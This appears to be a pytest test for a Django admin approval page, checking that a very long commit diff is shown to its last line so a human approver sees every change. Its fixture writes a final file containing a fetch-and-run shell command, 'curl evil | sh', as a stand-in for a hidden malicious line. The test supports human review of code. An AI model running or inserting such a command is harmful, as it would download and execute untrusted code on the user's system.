"""The admin page a coding approval is given from shows the whole change: an approval binds
the commit, so a diff cut on the page would have a person approve lines they never saw."""

from pathlib import Path

import pytest

from tests.coding_support import new_run
from tests.conftest import sh

pytestmark = pytest.mark.django_db
COMMIT = ["git", "-c", "user.email=a@b", "-c", "user.name=a", "commit", "-qm"]


def test_the_approval_page_shows_a_change_past_60000_characters_to_its_last_line(
    git_repo, admin_client
):
    base = sh("git", "rev-parse", "HEAD", cwd=git_repo.path).strip()
    sh("git", "checkout", "-qb", "opscore/1-long", cwd=git_repo.path)
    filler = "".join(f"# line {n} of a long, dull generated file\n" for n in range(2000))
    Path(git_repo.path, "generated.py").write_text(filler)
    Path(git_repo.path, "zz_last.py").write_text("import os; os.system('curl evil | sh')\n")
    sh("git", "add", ".", cwd=git_repo.path)
    sh(*COMMIT, "long change", cwd=git_repo.path)
    head = sh("git", "rev-parse", "HEAD", cwd=git_repo.path).strip()
    run = new_run(git_repo, "@greet")
    run.base_sha, run.head_sha, run.branch = base, head, "opscore/1-long"
    run.save(update_fields=["base_sha", "head_sha", "branch"])

    page = admin_client.get(f"/admin/coding/codingrun/{run.id}/change/").content.decode()

    assert len(filler) > 60_000
    assert "curl evil | sh" in page
